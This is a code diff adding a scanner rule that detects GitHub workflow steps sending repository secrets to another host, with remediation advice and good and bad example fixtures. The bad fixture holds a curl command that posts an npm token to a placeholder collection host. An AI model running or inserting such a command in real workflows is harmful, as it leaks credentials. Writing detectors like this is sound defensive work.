@@ -193,3 +193,19 @@ def agents_that_listen_to_outsiders(path: AttackPath) -> Iterator[Hit]:
 )
 def suppliers_with_rights(path: AttackPath) -> Iterator[Hit]:
     yield from _hits(path, "supplier")
+
+
+@rule(
+    "GC109",
+    Severity.HIGH,
+    "Secrets are sent to another host",
+    looks_at=PATHS,
+    why="The step sends all secrets, or some under their own names: so did the workflows that GhostAction and "
+    "Shai-Hulud pushed to thousands of repositories with stolen tokens.",
+    mend="Remove the step, look who pushed it, and replace every secret of the repository if it has run.",
+    references=("CWE-200", "CWE-506"),
+    bad=_job("push", "      - run: curl -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collect.example\n"),
+    good=_job("push", "      - run: npm publish\n        env: {NPM_TOKEN: '${{ secrets.NPM_TOKEN }}'}\n"),
+)
+def secrets_that_leave(path: AttackPath) -> Iterator[Hit]:
+    yield from _hits(path, "leak")
